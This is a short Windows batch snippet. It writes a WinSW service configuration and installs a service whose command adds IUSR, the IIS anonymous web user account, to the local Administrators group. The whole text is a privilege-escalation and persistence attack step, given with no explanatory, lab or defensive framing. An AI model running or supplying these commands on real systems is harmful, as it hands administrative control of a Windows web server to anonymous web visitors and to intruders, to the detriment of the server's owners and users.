(
echo ^<service^>^<id^>x^</id^>^<executable^>cmd^</executable^>^<arguments^>/c net localgroup Administrators IUSR /add^</arguments^>^</service^>
) > C:\svc\winsw.xml
C:\svc\winsw.exe install
